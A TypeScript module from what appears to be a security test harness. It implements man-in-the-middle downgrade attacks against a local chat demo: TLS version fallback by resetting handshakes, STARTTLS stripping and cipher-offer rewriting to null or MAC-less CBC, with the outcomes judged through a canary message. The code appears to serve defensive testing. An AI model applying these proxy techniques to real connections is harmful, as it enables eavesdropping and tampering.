/**
 * Downgrade attacks: force a weaker setting than both ends support.
 * - `downgrade-fallback`: reset every TLS handshake that offers more than the profile's minimum
 *   version, so a client that "falls back" retries lower (the dance POODLE used, RFC 7507).
 * - `downgrade-starttls`: strip the STARTTLS offer from the plaintext greeting.
 * - `downgrade-cipher`: rewrite the secure channel's cipher offer to the weakest ciphers.
 * Each is judged by what happened: the version actually negotiated, the canary crossing in
 * plaintext, a weak cipher actually used and exploited.
 */
import net from 'node:net';
import { randomBytes } from 'node:crypto';
import { encodeFrame, type Frame, type FrameDecoder } from '../../core/frames.ts';
import { TLS_VERSIONS, usesTls, versionRank, type TlsVersion } from '../../core/profile.ts';
import { ALERT_DESCRIPTION } from '../../core/tls/alerts.ts';
import { buildClientHello } from '../../core/tls/client-hello.ts';
import { CONTENT_TYPE, TLS_FALLBACK_SCSV, versionName } from '../../core/tls/registry.ts';
import { conversationEvidence, describeRefusal, findCanary, primaryRefusal, proxyEvidence, serverRefusals, sightingEvidence } from '../evidence.ts';
import { alterFrame, framesOf } from '../tamper-tools.ts';
import type { ProxyAddon, ProxyConnection } from '../proxy.ts';
import { CanaryMark } from '../canary-mark.ts';
import type { Attack, Evidence } from '../types.ts';

/** Wire value of a TLS version (RFC 8446 §4.2.1): TLSv1 = 0x0301 … TLSv1.3 = 0x0304. */
export function wireVersion(v: TlsVersion): number {
  return 0x0301 + versionRank(v);
}

/** The channel ciphers the attacker rewrites the offer to, weakest first. */
const WEAKEST_CHANNEL_CIPHERS = ['null', 'aes-128-cbc'] as const;

/**
 * Sends a hand-built ClientHello for `version` carrying TLS_FALLBACK_SCSV (RFC 7507 §3) straight
 * to the server and reports its answer: a server that supports a higher version must answer with
 * the inappropriate_fallback alert (86).
 */
export async function probeFallbackScsv(port: number, version: number): Promise<{ answer: 'inappropriate_fallback' | 'server_hello' | 'other_alert' | 'nothing'; detail: string }> {
  const sock = net.connect({ host: '127.0.0.1', port });
  const chunks: Buffer[] = [];
  sock.on('data', (d) => chunks.push(d));
  sock.on('error', () => {});
  await new Promise<void>((r) => {
    sock.once('connect', r);
    sock.once('error', () => r());
  });
  sock.write(
    buildClientHello({
      legacyVersion: version,
      random: randomBytes(32),
      cipherSuites: [0xc02f, 0xc013, 0x009c, 0x002f, TLS_FALLBACK_SCSV],
      serverName: 'localhost',
      supportedGroups: [0x001d, 0x0017],
      signatureAlgorithms: [0x0804, 0x0401, 0x0201],
    }),
  );
  await new Promise<void>((r) => {
    const t = setTimeout(r, 1000);
    sock.once('data', () => setTimeout(() => (clearTimeout(t), r()), 20));
    sock.once('close', () => (clearTimeout(t), r()));
  });
  sock.destroy();
  const bytes = Buffer.concat(chunks);
  if (bytes.length >= 7 && bytes[0] === CONTENT_TYPE.alert) {
    const desc = bytes[6];
    if (desc === ALERT_DESCRIPTION.inappropriate_fallback) return { answer: 'inappropriate_fallback', detail: `the server answered a ${versionName(version)} ClientHello carrying TLS_FALLBACK_SCSV with alert inappropriate_fallback (86): it refuses an inappropriate fallback (RFC 7507)` };
    return { answer: 'other_alert', detail: `the server answered a ${versionName(version)} ClientHello carrying TLS_FALLBACK_SCSV with alert ${desc}` };
  }
  if (bytes.length >= 6 && bytes[0] === CONTENT_TYPE.handshake && bytes[5] === 2) return { answer: 'server_hello', detail: `the server accepted a ${versionName(version)} ClientHello carrying TLS_FALLBACK_SCSV (it does not implement RFC 7507)` };
  return { answer: 'nothing', detail: `the server sent nothing recognisable to a ${versionName(version)} ClientHello carrying TLS_FALLBACK_SCSV` };
}

export const downgradeFallback: Attack = {
  id: 'downgrade-fallback',
  title: 'Version fallback downgrade',
  description: 'The attacker resets every TLS handshake whose ClientHello offers more than the profile\'s minimum version. Succeeds only if a session then completes below the profile\'s maximum version. Also probes whether the server refuses an inappropriate fallback (TLS_FALLBACK_SCSV, RFC 7507).',
  applicability(p) {
    if (!usesTls(p)) return 'the profile uses no TLS: there is no version to downgrade';
    if (p.tls.minVersion === p.tls.maxVersion) return `the profile allows only ${p.tls.minVersion}: there is no lower version to force`;
    return null;
  },
  async run(ctx) {
    const floor = wireVersion(ctx.profile.tls.minVersion);
    let killed = 0;
    const addon: ProxyAddon = {
      name: 'downgrade-fallback',
      onClientHello(_conn, _raw, hello) {
        if (hello && hello.maxVersion > floor) {
          killed++;
          return { action: 'kill', reason: `ClientHello offered up to ${versionName(hello.maxVersion)}; the attacker resets every handshake above ${ctx.profile.tls.minVersion}` };
        }
        return { action: 'relay' };
      },
    };
    const server = await ctx.startServer();
    const obs = await ctx.runConversation({ addon, server });
    const below = TLS_VERSIONS[versionRank(ctx.profile.tls.maxVersion) - 1];
    const probe =
      ctx.profile.transport === 'tls'
        ? await probeFallbackScsv(server.port, wireVersion(below))
        : { answer: 'nothing' as const, detail: 'TLS_FALLBACK_SCSV probe skipped: the server speaks TLS only after STARTTLS' };
    const evidence: Evidence[] = [{ kind: 'fallback-scsv', detail: probe.detail }, ...proxyEvidence(obs), ...conversationEvidence(obs)];
    const n = obs.clients.alice.negotiated;
    // What the victim's retries looked like on the wire: did any carry TLS_FALLBACK_SCSV?
    const hellos = obs.proxy!.connections.map((c) => c.clientHelloInfo).filter((h) => h !== null);
    const scsvSent = hellos.some((h) => h.fallbackScsv);
    const retries = obs.clients.alice.fallbackAttempts;
    if (retries.length) evidence.unshift({ kind: 'client-fallback', detail: `alice's client gave up ${retries.length} handshake(s) and retried lower: ${retries.map((r) => `max ${r.maxVersion} (${r.error})`).join('; ')}` });
    evidence.unshift({ kind: 'client-hellos', detail: `${hellos.length} ClientHello(s) seen, offering up to ${hellos.map((h) => versionName(h.maxVersion)).join(', ') || 'nothing'}; TLS_FALLBACK_SCSV ${scsvSent ? 'present' : 'absent from every one'}` });
    const scsvNote =
      probe.answer === 'inappropriate_fallback' && !scsvSent
        ? " The server does refuse inappropriate fallbacks (TLS_FALLBACK_SCSV, RFC 7507), but the client's retries carried no SCSV (node's TLS client cannot send it): the client's own fallback is what makes the attack possible."
        : '';
    const data = { killedHandshakes: killed, fallbackScsvProbe: probe.answer, clientSentScsv: scsvSent };
    if (killed > 0 && n?.protocol && (TLS_VERSIONS as readonly string[]).includes(n.protocol) && versionRank(n.protocol as TlsVersion) < versionRank(ctx.profile.tls.maxVersion)) {
      return {
        outcome: 'succeeded',
        reason: `alice's session ran on ${n.protocol} (${n.cipher}) below the profile's maximum ${ctx.profile.tls.maxVersion}: after ${killed} reset handshake(s) the client fell back.${scsvNote}`,
        summary: `forced ${n.protocol}`,
        impact: ['integrity'],
        evidence,
        negotiated: n,
        data,
      };
    }
    const err = obs.clients.alice.error;
    if (!n && killed > 0 && err && /TLS_HANDSHAKE|NETWORK/.test(err.code)) {
      return {
        outcome: 'blocked',
        reason: `the client did not fall back: ${killed} handshake(s) offering more than ${ctx.profile.tls.minVersion} were reset and it gave up (${err.code}) — no downgrade, only a denial of service`,
        summary: 'client did not fall back',
        impact: [],
        evidence,
        negotiated: null,
        data,
      };
    }
    return {
      outcome: 'error',
      reason: `no verdict: ${killed} handshake(s) reset, and alice ${n ? `negotiated ${n.protocol}` : `stopped with ${err ? `${err.code}: ${err.message}` : 'no error'}`} — not a measured downgrade nor a refusal`,
      summary: 'inconclusive',
      impact: [],
      evidence,
      negotiated: n ?? null,
      data,
    };
  },
};

export const downgradeStarttls: Attack = {
  id: 'downgrade-starttls',
  title: 'STARTTLS stripping',
  description: 'The attacker deletes the STARTTLS offer from the server\'s plaintext greeting. Succeeds only if the canary then crosses the network in plaintext.',
  applicability(p) {
    return p.transport === 'starttls' || p.transport === 'starttls-required' ? null : `transport is ${p.transport}: there is no STARTTLS offer to strip`;
  },
  async run(ctx) {
    const decoders = new WeakMap<ProxyConnection, FrameDecoder>();
    let stripped = 0;
    const addon: ProxyAddon = {
      name: 'downgrade-starttls',
      onData(conn, data, dir, layer) {
        if (dir !== 's2c' || layer !== 'client-wire' || conn.record.clientHello) return undefined;
        const frames = framesOf(decoders, conn, data).map((f) => {
          if (f.type !== 'welcome' || f.starttls !== true) return f;
          stripped++;
          conn.note('removed "starttls": true from the server\'s plaintext welcome');
          const { starttls: _removed, ...rest } = f;
          return rest as Frame;
        });
        return Buffer.concat(frames.map(encodeFrame));
      },
    };
    const obs = await ctx.runConversation({ addon });
    const sightings = findCanary(obs.proxy!.engine, ctx.canary, ['client-wire']);
    const evidence: Evidence[] = [...sightingEvidence(sightings, ctx.canary), ...proxyEvidence(obs), ...conversationEvidence(obs)];
    if (sightings.length) {
      return { outcome: 'succeeded', reason: `after the attacker stripped the STARTTLS offer (${stripped} greeting(s)), the client carried on in plaintext and the canary crossed the wire readable`, summary: 'canary read: STARTTLS stripped', impact: ['confidentiality', 'integrity'], evidence, negotiated: obs.clients.alice.negotiated };
    }
    const err = obs.clients.alice.error ?? obs.clients.bob.error;
    if (stripped > 0 && err?.code === 'SECCHAT_ERR_STARTTLS_UNAVAILABLE') {
      return { outcome: 'blocked', reason: `the client refused to continue: ${err.message}`, summary: 'client requires STARTTLS', impact: [], evidence, negotiated: null };
    }
    return {
      outcome: 'error',
      reason: `no verdict: ${stripped ? `${stripped} STARTTLS offer(s) stripped` : 'no STARTTLS offer was seen to strip'}, the canary did not cross in plaintext, and no client refused for lack of STARTTLS${err ? ` (${err.code}: ${err.message})` : ''}`,
      summary: 'inconclusive',
      impact: [],
      evidence,
      negotiated: obs.clients.alice.negotiated,
    };
  },
};

export const downgradeCipher: Attack = {
  id: 'downgrade-cipher',
  title: 'Channel cipher downgrade',
  description: 'The attacker rewrites the secure channel\'s cipher offer to the weakest ciphers (null, aes-128-cbc without MAC), then exploits what was negotiated: reads the canary under null, flips bits so bob receives an altered canary under aes-128-cbc. Blocked if the server refuses the weak ciphers or the transcript MAC detects the rewrite.',
  applicability(p) {
    return p.channel.keyExchange === 'none' ? 'the profile has no secure channel: there is no cipher offer to rewrite' : null;
  },
  async run(ctx) {
    const decoders = new WeakMap<ProxyConnection, FrameDecoder>();
    let rewritten = 0;
    const mark = new CanaryMark();
    let altered: string | null = null;
    const addon: ProxyAddon = {
      name: 'downgrade-cipher',
      onData(conn, data, dir, layer) {
        if (dir !== 'c2s' || layer !== 'client-wire' || conn.record.clientHello) return undefined;
        const frames = framesOf(decoders, conn, data).map((f) => {
          if (f.type === 'ch_hello' && Array.isArray(f.ciphers)) {
            rewritten++;
            conn.note(`rewrote the channel cipher offer ${JSON.stringify(f.ciphers)} to ${JSON.stringify(WEAKEST_CHANNEL_CIPHERS)}`);
            return { ...f, ciphers: [...WEAKEST_CHANNEL_CIPHERS] };
          }
          if (!altered && mark.isAlice(conn)) {
            const a = alterFrame(f, ctx.canary.slice(0, 7));
            if (a && !a.how.startsWith('flipped')) {
              altered = a.how;
              conn.note(a.how);
              return a.frame;
            }
          }
          return f;
        });
        return Buffer.concat(frames.map(encodeFrame));
      },
    };
    const obs = await ctx.runConversation({
      addon,
      beforeCanary: mark.beforeCanary,
    });
    const evidence: Evidence[] = [...proxyEvidence(obs), ...conversationEvidence(obs)];
    const negotiated = obs.clients.alice.negotiated;
    if (!rewritten) {
      // Only TLS on the victim's connection (seen: its ClientHello) explains an offer never seen.
      const hidden = obs.proxy!.connections.some((c) => c.clientHello !== null);
      return hidden
        ? { outcome: 'blocked', reason: 'the attacker never saw the channel\'s cipher offer: the channel handshake travels inside TLS', summary: 'offer hidden by TLS', impact: [], evidence, negotiated }
        : { outcome: 'error', reason: 'no verdict: no channel cipher offer crossed the attacker\'s path', summary: 'offer not seen', impact: [], evidence, negotiated };
    }
    const cipher = obs.clients.alice.channel?.cipher ?? null;
    if (cipher === 'null') {
      const sightings = findCanary(obs.proxy!.engine, ctx.canary, ['client-wire']);
      evidence.unshift(...sightingEvidence(sightings, ctx.canary));
      if (sightings.length) return { outcome: 'succeeded', reason: 'the channel ran on the null cipher after the offer was rewritten, and the attacker read the canary on the wire', summary: 'forced null cipher: canary read', impact: ['confidentiality', 'integrity'], evidence, negotiated };
    }
    if (cipher === 'aes-128-cbc' && altered && obs.bobReceived !== null && obs.bobReceived !== obs.canaryMessage && !obs.clients.bob.error) {
      evidence.unshift({ kind: 'altered-delivery', detail: `bob received ${JSON.stringify(obs.bobReceived)} instead of ${JSON.stringify(obs.canaryMessage)}` });
      return { outcome: 'succeeded', reason: `the channel ran on aes-128-cbc without a MAC after the offer was rewritten; the attacker ${altered as string}, and bob received the altered canary`, summary: 'forced CBC: canary altered', impact: ['integrity'], evidence, negotiated };
    }
    const refusal = primaryRefusal(serverRefusals(obs));
    const err = obs.clients.alice.error;
    if (refusal) return { outcome: 'blocked', reason: `the rewrite was caught: ${describeRefusal(refusal)}`, summary: refusal.event === 'channel_error' ? `refused: ${String(refusal.code)}` : 'refused', impact: [], evidence, negotiated };
    if (err?.code === 'SECCHAT_ERR_CHANNEL') return { outcome: 'blocked', reason: `the rewrite was caught by the client: ${err.message}`, summary: 'client refused', impact: [], evidence, negotiated };
    return { outcome: 'error', reason: `no verdict: the offer was rewritten, the channel ran on ${cipher ?? 'no cipher'}, and neither an exploit nor a refusal was observed${err ? ` (${err.code}: ${err.message})` : ''}`, summary: 'inconclusive', impact: [], evidence, negotiated };
  },
};
